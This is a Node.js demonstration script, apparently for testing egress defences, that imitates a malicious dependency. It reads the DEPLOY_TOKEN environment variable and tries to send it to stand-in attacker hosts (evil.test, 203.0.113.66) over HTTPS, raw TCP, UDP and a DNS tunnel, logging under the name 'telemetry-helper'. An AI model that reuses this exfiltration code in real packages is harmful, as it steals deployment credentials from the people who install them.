// What a malicious dependency does: takes a secret and tries every way out. Used by `npm run demo` against servers of its own.
const dgram = require('node:dgram');
const dns = require('node:dns').promises;
const https = require('node:https');
const net = require('node:net');

const secret = process.env.DEPLOY_TOKEN ?? 'none';
const attacker = '203.0.113.66';

const ways = {
  'HTTPS POST': () =>
    new Promise((resolve, reject) => {
      const request = https.request('https://evil.test/collect', { method: 'POST' }, (response) => {
        response.resume();
        response.statusCode === 200 ? resolve() : reject(new Error(`status ${response.statusCode}`));
      });
      request.on('error', reject);
      request.end(secret);
    }),
  'raw TCP': () =>
    new Promise((resolve, reject) => {
      const socket = net.connect(9999, attacker, () => socket.end(secret));
      socket.on('data', resolve);
      socket.on('error', reject);
      socket.on('close', () => reject(new Error('closed')));
      socket.setTimeout(3000, () => socket.destroy(new Error('timeout')));
    }),
  UDP: () =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket('udp4');
      socket.on('message', resolve);
      socket.on('error', reject);
      socket.connect(9999, attacker, () => socket.send(secret));
      setTimeout(() => reject(new Error('no answer')), 1500);
    }),
  'DNS tunnel': () => dns.resolveTxt(`${Buffer.from(secret).toString('hex')}.evil.test`),
};

(async () => {
  for (const [way, attempt] of Object.entries(ways)) {
    try {
      await attempt();
      console.log(`telemetry-helper: ${way}: the secret is out`);
    } catch (error) {
      console.log(`telemetry-helper: ${way}: failed (${error.code ?? error.message})`);
    }
  }
  process.exit(0);
})();
